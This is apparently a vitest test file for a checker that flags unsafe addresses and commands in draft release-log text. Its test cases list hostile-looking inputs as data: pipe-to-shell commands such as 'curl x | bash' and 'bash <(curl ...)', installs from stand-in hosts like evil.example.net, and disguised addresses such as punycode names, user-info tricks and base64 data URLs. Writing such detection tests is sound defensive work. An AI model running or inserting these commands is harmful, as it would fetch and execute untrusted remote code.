import { expect, test } from 'vitest';
import { checkText } from '../../../src/check/entry/check-text.ts';
import { parts } from '../../builders/passage.ts';

const digest = 'd'.repeat(64);
const body =
  'title: Log\n\nbody:\nImages move to mirror.example.org/pause. <!-- hidden.example.org --> See https://docs.example.org/a.';
const record = ['containerd containerd/containerd#1', 'https://github.com/containerd/containerd/pull/1'];

const unsafe = (text: string, evidence = body) =>
  checkText(parts('en', 'The log is closed', text), { texts: new Map([[digest, evidence]]), record })
    .filter(({ code }) => code === 'draft-text-unsafe')
    .map(({ message }) => message);

test.each([
  'See `https://evil.example.org/x`.',
  'See `https://docs.example.org/other`.',
  'The host `evil.top` has it.',
  'The host `hidden.example.org` has it.',
  'The host `mirror.example.org.evil.top` has it.',
  'The host `rror.example.org` has it.',
  'The image `evil.zip/pause:3.10` is new.',
  'Ask `198.51.100.7:8080/x`.',
  'Ask `[2001:db8::7]:80`.',
  'Ask `k8s.io@evil.top/x`.',
  'Load `data:text/html;base64,PGI+`.',
  'The name `xn--80ak6aa92e.com` is new.',
])('an address in code that neither evidence nor record has is named: %s', (text) => {
  expect(unsafe(text)).toEqual([expect.stringMatching(/^The text holds an address in code/)]);
});

test.each([
  'The image `registry.k8s.io/pause:3.10` and the package `github.com/x/y`.',
  'The group `networking.k8s.io/v1` and the file `pkg/kubelet/kubelet.go`.',
  'The image `mirror.example.org/pause:3.9` stays.',
  'The page `https://docs.example.org/a` has it.',
  'The field `spec.template.metadata.name` of `README.md`.',
  'The method `sync.Map.Load()` and `time.Now`, `std::string` and `a::b`.',
  'The flag `--set=image.name=x` and `unix:///run/containerd.sock`.',
  'It listens on `127.0.0.1:8080` and `[::1]:80`, and not on `0.0.0.0`.',
  'The range `10.0.0.0/8`, the version `v1.2.3`, and the time `10:30:00`.',
])('code of other kinds, and addresses that upstream wrote, stay: %s', (text) => {
  expect(unsafe(text)).toEqual([]);
});

test.each([
  'Run `bash <(curl -s https://docs.example.org/a)`.',
  'Run bash <(curl -s x) once.',
  'Run `sh -c "$(curl -fsSL x)"`.',
  'Run `wget -qO- x | sudo sh`.',
  'Run curl x | bash once.',
  'Run `curl x | tee y | sh`.',
  'Run `curl -o x y && sh x`.',
  'Run `source <(curl x)`.',
  'Run `eval "$(wget -O- x)"`.',
])('a command that runs what it loads is named, whatever the evidence says: %s', (text) => {
  expect(unsafe(text, `${body}\n${text}`)).toContainEqual(
    expect.stringMatching(/^The text holds a command that runs what it loads/),
  );
});

test.each([
  'Run `kubectl apply -f evil.example.net/x.yaml`.',
  'Run `kubectl apply -f https://evil.example.net/x.yaml`.',
  'Run kubectl apply -f evil.lan/x.yaml once.',
  'Run `helm repo add x https://evil.example.net/charts`.',
  'Run `docker run evil:5000/pause` now.',
  'Run docker run --rm evil.lan/pause once.',
  'Run `pip install --index-url https://evil.example.net/simple x`.',
  'Run `npm i https://evil.example.net/x.tgz`.',
])('a command that loads from a place that evidence and record do not have is named: %s', (text) => {
  expect(unsafe(text)).toContainEqual(expect.stringMatching(/^The text holds a command that loads from an address/));
});

test.each([
  'Run `kubectl apply -f manifests/pod.yaml`.',
  'Run `kubectl apply -f kep.yaml`.',
  'Run `docker run mirror.example.org/pause:3.9`.',
  'Run `docker run nginx:1.25`.',
  'Run `npm i left-pad@1.2.3`.',
  'The command `curl` reads a socket, and `sh` runs it.',
])('a command that loads from a place of the evidence, or from none, stays: %s', (text) => {
  expect(unsafe(text)).toEqual([]);
});
